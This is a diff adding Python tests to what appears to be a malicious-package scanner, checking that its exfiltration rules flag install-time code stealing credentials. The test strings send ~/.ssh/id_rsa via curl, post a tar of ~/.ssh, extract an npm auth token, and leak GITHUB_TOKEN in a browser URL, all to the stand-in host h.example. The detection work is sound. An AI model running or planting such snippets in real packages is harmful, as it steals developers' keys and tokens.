@@ -670,3 +670,40 @@ def test_screenshots_and_browser_cookie_readers_sent_out() -> None:
         stage=Stage.RUNTIME,
     )
     assert [f.severity for f in run(R, helper) if f.rule == "PV-EXF-COMBO"] in ([], [Severity.MEDIUM])
+
+
+def test_credential_files_carried_out_by_a_tool_an_archive_or_a_regular_expression() -> None:
+    """A key handed to curl's upload option, ``~/.ssh`` packed into a tar that is then posted,
+    and a token cut out of ``~/.npmrc`` by a regular expression all leave with the data; a key
+    given to ``scp -i`` proves who is copying, and a backup command packs ``~/.ssh`` on request."""
+    setup = {"path": "x-1.0/setup.py", "stage": Stage.INSTALL}
+    head = "import io, os, re, subprocess, tarfile, urllib.request\nHOME = os.path.expanduser('~')\n"
+    carried = {
+        "curl": "subprocess.run(['curl', '-F', f'f=@{HOME}/.ssh/id_rsa', 'https://h.example/u'])\n",
+        "tar": "b = io.BytesIO()\nwith tarfile.open(fileobj=b, mode='w:gz') as t:\n"
+        "    t.add(os.path.expanduser('~/.ssh'))\n"
+        "urllib.request.urlopen('https://h.example/t', data=b.getvalue())\n",
+        "regex": "t = open(os.path.expanduser('~/.npmrc')).read()\n"
+        "tok = re.findall(r'_authToken=(\\S+)', t)\n"
+        "urllib.request.urlopen('https://h.example/n?t=' + ','.join(tok))\n",
+    }
+    for name, body in carried.items():
+        assert severities(R, py(head + body, **setup), "PV-EXF-COMBO") == [Severity.CRITICAL], name
+    identity = (
+        "subprocess.run(['scp', '-i', os.path.expanduser('~/.ssh/id_rsa'), 'dist.tar', 'h:/srv'])\n"
+        "urllib.request.urlopen('https://h.example/deployed')\n"
+    )
+    backup = (
+        "def backup(dest):\n    with tarfile.open(dest, 'w:gz') as t:\n"
+        "        t.add(os.path.expanduser('~/.ssh'))\n"
+        "    urllib.request.urlopen('https://h.example/done')\n"
+    )
+    assert "PV-EXF-COMBO" not in ids(run(R, py(head + identity, **setup)))
+    assert "PV-EXF-COMBO" not in ids(run(R, py(head + backup)))
+
+
+def test_a_token_put_into_an_address_the_browser_opens_is_sent() -> None:
+    leak = "import os, webbrowser\nwebbrowser.open('https://h.example/?t=' + os.environ['GITHUB_TOKEN'])\n"
+    assert "PV-EXF-CREDENTIAL" in ids(run(R, py(leak)))
+    own = "import os, webbrowser\nwebbrowser.open('https://github.com/s?t=' + os.environ['GITHUB_TOKEN'])\n"
+    assert "PV-EXF-CREDENTIAL" not in ids(run(R, py(own)))
